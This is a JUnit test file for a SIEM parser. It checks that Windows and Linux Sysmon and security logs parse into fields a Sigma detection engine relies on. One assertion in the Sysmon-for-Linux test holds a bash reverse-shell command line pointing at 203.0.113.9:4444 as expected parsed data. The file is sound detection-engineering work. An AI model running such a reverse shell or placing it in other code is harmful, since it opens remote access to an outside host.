package io.usiem.parser.windows.internal;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.usiem.api.event.Event;
import io.usiem.api.event.Field;
import io.usiem.api.event.FieldType;
import io.usiem.api.event.Fields;
import io.usiem.api.event.LogSource;
import io.usiem.api.parser.ParseResult;
import io.usiem.api.parser.RawLog;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.ZoneOffset;
import java.util.List;

import org.junit.jupiter.api.Test;

/** What the Sigma engine relies on: winlog.event_data.<Name> keywords, winlog.* header fields and the logsource. */
class SigmaContractTest {
    private final WindowsEventParser parser = new WindowsEventParser(ZoneOffset.UTC, true);

    private Event parse(String file, int lineNumber) throws IOException {
        List<String> lines = Files.readAllLines(Path.of("src/test/resources/golden", file), StandardCharsets.UTF_8);
        ParseResult r = parser.parse(RawLog.of(lines.get(lineNumber - 1)));
        assertTrue(r.isParsed(), r.toString());
        return r.events().get(0);
    }

    private static String data(Event e, String name) {
        Field f = Field.of(WinFields.EVENT_DATA_PREFIX + name, FieldType.KEYWORD);
        assertEquals(FieldType.KEYWORD, f.type());
        return e.getText(f);
    }

    @Test
    void nxlogSysmonProcessCreation() throws IOException {
        Event e = parse("otrf.log", 1);
        assertEquals(LogSource.of("windows", "sysmon", "process_creation"), e.logSource());
        assertEquals("1", e.getText(WinFields.WINLOG_EVENT_ID));
        assertEquals("1", e.getText(Fields.EVENT_CODE));
        assertEquals("Microsoft-Windows-Sysmon/Operational", e.getText(WinFields.WINLOG_CHANNEL));
        assertEquals("Microsoft-Windows-Sysmon", e.getText(WinFields.WINLOG_PROVIDER_NAME));
        assertEquals("WORKSTATION5.mordor.local", e.getText(Fields.HOST_NAME));
        assertEquals("C:\\Windows\\System32\\RuntimeBroker.exe", data(e, "Image"));
        assertEquals("C:\\Windows\\System32\\svchost.exe", data(e, "ParentImage"));
        assertEquals("C:\\Windows\\System32\\RuntimeBroker.exe -Embedding", data(e, "CommandLine"));
        assertEquals("S-1-5-18", e.getText(WinFields.WINLOG_USER_IDENTIFIER));
    }

    @Test
    void evtxDumpSecurityLogon() throws IOException {
        Event e = parse("shapes.log", 1);
        assertEquals(LogSource.of("windows", "security", null), e.logSource());
        assertEquals("3", data(e, "LogonType"));
        assertEquals("administrator", data(e, "TargetUserName"));
        assertEquals("4625", e.getText(WinFields.WINLOG_EVENT_ID));
        assertEquals("88213", e.getText(WinFields.WINLOG_RECORD_ID));
        assertEquals("WKS-042.corp.example", e.getText(WinFields.WINLOG_COMPUTER_NAME));
        assertEquals("failure", e.getText(Fields.EVENT_OUTCOME));
    }

    @Test
    void winlogbeatAndSecurityProcessCreation() throws IOException {
        assertEquals("jdoe", data(parse("shapes.log", 6), "TargetUserName"));
        Event e = parse("shapes.log", 18);
        assertEquals(LogSource.of("windows", "security", "process_creation"), e.logSource());
        assertEquals("C:\\Windows\\System32\\cmd.exe", data(e, "NewProcessName"));
    }

    @Test
    void sysmonRegistryAndPowerShellCategories() throws IOException {
        assertEquals("registry_set", parse("shapes.log", 15).logSource().category());
        assertEquals("registry_delete", parse("shapes.log", 16).logSource().category());
        assertEquals("ps_script", parse("shapes.log", 8).logSource().category());
        Event classic = parse("shapes.log", 4);
        assertEquals(LogSource.of("windows", "powershell-classic", "ps_classic_start"), classic.logSource());
        assertTrue(data(classic, "Data").contains("HostApplication=powershell.exe -Version 2"), data(classic, "Data"));
        Event nxlogClassic = parse("otrf.log", 8);
        assertTrue(data(nxlogClassic, "Data").contains("HostApplication="), "NXLog keeps only the message");
    }

    @Test
    void sysmonTamperingKeepsItsType() throws IOException {
        Event e = parse("shapes.log", 30);
        assertEquals("process_tampering", e.logSource().category());
        assertEquals("Image is replaced", data(e, "Type"));
    }

    @Test
    void sysmonForLinuxOverSyslogAndLogAnalytics() throws IOException {
        Event e = parse("xml.log", 3);
        assertEquals(LogSource.of("linux", "sysmon", "process_creation"), e.logSource());
        assertEquals("bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", data(e, "CommandLine"));
        assertEquals("www-data", data(e, "ParentUser"));
        assertEquals("/usr/bin/bash", e.getText(Fields.PROCESS_EXECUTABLE));
        assertEquals("www-data", e.getText(Fields.USER_NAME));
        assertEquals("33", e.getText(WinFields.PROCESS_USER_ID));
        assertEquals("sysmon_linux.log", e.getText(Fields.EVENT_DATASET));
        assertEquals("web01", e.getText(Fields.HOST_NAME));
        Event net = parse("xml.log", 4);
        assertEquals(LogSource.of("linux", "sysmon", "network_connection"), net.logSource());
        assertEquals("true", data(net, "Initiated"));
        Event row = parse("otrf_sysmon_linux.log", 3);
        assertEquals(LogSource.of("linux", "sysmon", "process_creation"), row.logSource());
        assertEquals("/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java", data(row, "ParentImage"));
        assertTrue(row.tags().contains("truncated"), row.tags().toString());
    }

    @Test
    void windowsEventXml() throws IOException {
        Event e = parse("xml.log", 1);
        assertEquals(LogSource.of("windows", "sysmon", "process_creation"), e.logSource());
        assertEquals("C:\\Windows\\System32\\cmd.exe", data(e, "ParentImage"));
        Event forwarded = parse("xml.log", 8);
        assertEquals(LogSource.of("windows", "security", null), forwarded.logSource());
        assertEquals("administrator", data(forwarded, "TargetUserName"));
        assertEquals("failure", forwarded.getText(Fields.EVENT_OUTCOME));
    }
}
